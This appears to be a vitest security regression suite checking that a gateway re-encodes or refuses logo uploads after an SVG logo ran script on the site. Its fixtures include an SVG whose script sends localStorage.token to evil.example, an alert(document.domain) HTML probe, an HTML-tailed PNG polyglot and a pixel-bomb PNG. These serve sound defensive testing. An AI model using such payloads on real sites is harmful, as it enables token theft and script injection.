/**
 * Issue 14, item 5: an SVG site logo ran script on our origin. Every logo upload is now decoded
 * by a document worker (by content, never the declared type or name) and drawn again as a fresh
 * PNG; only that PNG is saved and served. Through the real gateway, its in-process document
 * worker and PostgreSQL.
 */
import { textPicture } from '@mtp/doc-worker/testing';
import { ADMIN_ACCOUNT, ADMIN_PASSWORD, buildTestGateway, type TestGateway } from '@mtp/gateway/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const SCRIPT_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><script>fetch("//evil.example/?t="+localStorage.token)</script>' +
    '<rect width="120" height="40" fill="blue"/></svg>',
);
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');

type Upload = { bytes: Buffer; name: string; type: string };

async function uploadLogo(gw: TestGateway, token: string, siteId: number, file: Upload) {
  const boundary = '----mtp-logo';
  const head = [
    `--${boundary}\r\nContent-Disposition: form-data; name="site_id"\r\n\r\n${siteId}\r\n`,
    `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nlarge\r\n`,
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
  ].join('');
  const res = await gw.app.inject({
    method: 'POST',
    url: '/api/v1.0/site/upload_logo',
    headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([Buffer.from(head), file.bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  });
  return res.json() as { code: number; data: { logo_url: string } };
}

async function servedLogo(gw: TestGateway, siteId: number) {
  const res = await gw.app.inject({ url: `/api/v1.0/site/logo/${siteId}/large` });
  return { status: res.statusCode, type: String(res.headers['content-type']), bytes: res.rawPayload };
}

/** What would let a browser run it as a document: markup anywhere in the served bytes. */
function hasMarkup(bytes: Buffer): boolean {
  const text = bytes.toString('latin1').toLowerCase();
  return ['<script', '<svg', '<html', '<!doctype'].some((m) => text.includes(m));
}

/** Uploads wait in storage only while they are re-encoded. */
async function leftUploads(gw: TestGateway): Promise<string[]> {
  const keys: string[] = [];
  for await (const entry of gw.storage.list('uploads/')) keys.push(entry.key);
  return keys;
}

function pngSize(bytes: Buffer): [number, number] {
  expect(bytes.subarray(0, 8).equals(PNG_SIGNATURE)).toBe(true);
  return [bytes.readUInt32BE(16), bytes.readUInt32BE(20)];
}

/** A PNG whose header claims `side` x `side` pixels (its data is a 1x1 picture's). */
function pngClaiming(side: number): Buffer {
  const png = Buffer.from(textPicture('x'));
  png.writeUInt32BE(side, 16);
  png.writeUInt32BE(side, 20);
  return png;
}

let gw: TestGateway;
let admin: string;
let nextSite = 0;

async function newSite(): Promise<number> {
  nextSite += 1;
  const created = await gw.call<{ site_id: number }>('POST', 'site/create', {
    token: admin,
    body: { site_code: `logo${nextSite}`, site_name: `Logo ${nextSite}` },
  });
  return created.data.site_id;
}

beforeAll(async () => {
  gw = await buildTestGateway();
  admin = (await gw.login(ADMIN_ACCOUNT, ADMIN_PASSWORD)).data.access_token;
});
afterAll(async () => {
  await gw?.close();
});

describe('logo uploads are re-encoded by a document worker', () => {
  it('never serves an SVG with a script, whatever type or name it is declared with', async () => {
    for (const declared of [
      { name: 'logo.svg', type: 'image/svg+xml' },
      { name: 'logo.png', type: 'image/png' },
    ]) {
      const siteId = await newSite();
      const answer = await uploadLogo(gw, admin, siteId, { bytes: SCRIPT_SVG, ...declared });
      const served = await servedLogo(gw, siteId);
      expect(hasMarkup(served.bytes)).toBe(false);
      // SVG is refused (LOGO_INVALID), not rasterized: see workers/doc's README.
      expect(answer.code).toBe(40031);
      expect(served.status).toBe(404);
    }
  });

  it('refuses HTML named .png and saves nothing', async () => {
    const siteId = await newSite();
    const answer = await uploadLogo(gw, admin, siteId, { bytes: HTML, name: 'logo.png', type: 'image/png' });
    const served = await servedLogo(gw, siteId);
    expect(hasMarkup(served.bytes)).toBe(false);
    expect(answer.code).toBe(40031);
    expect(served.status).toBe(404);
    expect(await leftUploads(gw)).toEqual([]);
  });

  it('serves a PNG with HTML after its IEND as a fresh PNG without the tail', async () => {
    const siteId = await newSite();
    const picture = textPicture('Acme');
    const polyglot = Buffer.concat([picture, HTML]);
    expect((await uploadLogo(gw, admin, siteId, { bytes: polyglot, name: 'logo.png', type: 'image/png' })).code).toBe(20000);
    const served = await servedLogo(gw, siteId);
    expect(served.type).toBe('image/png');
    expect(hasMarkup(served.bytes)).toBe(false);
    expect(pngSize(served.bytes)).toEqual(pngSize(picture));
    // Nothing after the PNG's last chunk (IEND and its CRC).
    expect(served.bytes.subarray(-8, -4).toString('latin1')).toBe('IEND');
    expect(await leftUploads(gw)).toEqual([]);
  });

  it('round-trips a real PNG and a real JPEG as PNGs of the same dimensions', async () => {
    for (const [format, type] of [
      ['png', 'image/png'],
      ['jpeg', 'image/jpeg'],
    ] as const) {
      const siteId = await newSite();
      const picture = textPicture('标志 Logo', format);
      // The declared type lies the other way round: the content decides.
      const answer = await uploadLogo(gw, admin, siteId, { bytes: picture, name: `logo.${format}`, type: 'application/octet-stream' });
      expect(answer, `${format} (${type})`).toMatchObject({ code: 20000, data: { logo_url: `/api/v1.0/site/logo/${siteId}/large` } });
      const served = await servedLogo(gw, siteId);
      expect(served.type).toBe('image/png');
      expect(pngSize(served.bytes)).toEqual([640, 120]);
    }
  });

  it('refuses a picture whose header claims 30000x30000 pixels without decoding it', async () => {
    const siteId = await newSite();
    const bomb = pngClaiming(30_000);
    const started = performance.now();
    const answer = await uploadLogo(gw, admin, siteId, { bytes: bomb, name: 'logo.png', type: 'image/png' });
    console.log(`a ${bomb.length}-byte PNG claiming 30000x30000 px refused in ${Math.round(performance.now() - started)} ms`);
    expect(answer.code).toBe(40031);
    expect((await servedLogo(gw, siteId)).status).toBe(404);
  });

  it('refuses a truncated PNG, and the worker lives on to re-encode the next upload', async () => {
    const siteId = await newSite();
    const truncated = textPicture('cut').subarray(0, 60);
    expect((await uploadLogo(gw, admin, siteId, { bytes: truncated, name: 'logo.png', type: 'image/png' })).code).toBe(40031);
    expect((await uploadLogo(gw, admin, siteId, { bytes: textPicture('next'), name: 'logo.png', type: 'image/png' })).code).toBe(20000);
    expect(pngSize((await servedLogo(gw, siteId)).bytes)).toEqual([640, 120]);
  });

  it('refuses more than 2 MB and keeps nothing of it', async () => {
    const siteId = await newSite();
    const large = Buffer.concat([textPicture('big'), Buffer.alloc(2 * 1024 * 1024)]);
    expect((await uploadLogo(gw, admin, siteId, { bytes: large, name: 'logo.png', type: 'image/png' })).code).toBe(40031);
    expect((await servedLogo(gw, siteId)).status).toBe(404);
    expect(await leftUploads(gw)).toEqual([]);
  });

  it('does not serve a logo saved as uploaded before re-encoding (an old SVG row)', async () => {
    const siteId = await newSite();
    await gw.db.query(`INSERT INTO site_logos (site_id, kind, mime, bytes) VALUES ($1, 'large', 'image/svg+xml', $2)`, [
      siteId,
      SCRIPT_SVG,
    ]);
    const served = await servedLogo(gw, siteId);
    expect(hasMarkup(served.bytes)).toBe(false);
    expect(served.status).toBe(404);
  });
});

describe('without a document worker', () => {
  it('fails the upload with 1201 at once and saves nothing', async () => {
    const bare = await buildTestGateway({ docWorker: false });
    try {
      const token = (await bare.login(ADMIN_ACCOUNT, ADMIN_PASSWORD)).data.access_token;
      const created = await bare.call<{ site_id: number }>('POST', 'site/create', {
        token,
        body: { site_code: 'bare', site_name: 'Bare' },
      });
      const started = performance.now();
      const answer = await uploadLogo(bare, token, created.data.site_id, { bytes: textPicture('x'), name: 'logo.png', type: 'image/png' });
      console.log(`logo upload without a document worker answered ${answer.code} in ${Math.round(performance.now() - started)} ms`);
      expect(answer.code).toBe(1201);
      expect((await servedLogo(bare, created.data.site_id)).status).toBe(404);
      const { rows } = await bare.db.query('SELECT 1 FROM site_logos WHERE site_id = $1', [created.data.site_id]);
      expect(rows).toEqual([]);
      expect(await leftUploads(bare)).toEqual([]);
    } finally {
      await bare.close();
    }
  });
});
